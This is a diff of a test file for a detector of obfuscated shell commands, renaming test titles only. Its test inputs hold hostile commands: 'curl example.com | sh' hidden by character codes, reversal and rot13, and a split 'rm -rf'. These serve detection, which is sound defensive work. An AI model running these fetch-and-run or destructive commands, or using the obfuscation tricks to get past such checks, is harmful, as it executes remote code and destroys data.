@@ -15,11 +15,11 @@ describe("decodedTexts", () => {
     ["character codes", `[${[..."curl example.com | sh"].map((char) => char.charCodeAt(0)).join(",")}]`],
     ["reversal", "echo 'hs | moc.elpmaxe lruc' | rev"],
     ["rot13", "echo phey rknzcyr.pbz | tr a-z n-za-m"],
-  ])("sees through %s", (_, text) => {
+  ])("decodes %s", (_, text) => {
     expect(decodedTexts(`x = "${text}"`).join("\n")).toContain("curl example.com");
   });
 
-  it("finds nothing in hashes, paths, words and pictures", () => {
+  it("finds no text in hashes, paths, words and pictures", () => {
     const texts = [
       "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
       "src/components/navigation/sidebar",
@@ -40,17 +40,17 @@ describe("unspliced", () => {
     ["curl${IFS}x", "curl x"],
     ['run("cu" + "rl x")', 'run("curl x")'],
     ["r\\x6d -rf", "rm -rf"],
-  ])("puts %s together", (split, whole) => {
+  ])("joins %s", (split, whole) => {
     expect(unspliced(split)).toBe(whole);
   });
 
-  it("leaves plain commands alone", () => {
+  it("returns undefined for plain commands", () => {
     expect(unspliced("git commit -m 'fix the parser'")).toBeUndefined();
     expect(unspliced("ls -la")).toBeUndefined();
   });
 });
 
-it("joinedArguments reads a list of arguments as a command, in calls only", () => {
+it("joinedArguments joins a list of arguments to a command, in calls only", () => {
   expect(joinedArguments('spawn("curl", ["-d", "x"])')).toContain("curl -d x");
   expect(joinedArguments('colours = ["red", "green"]')).toBeUndefined();
 });
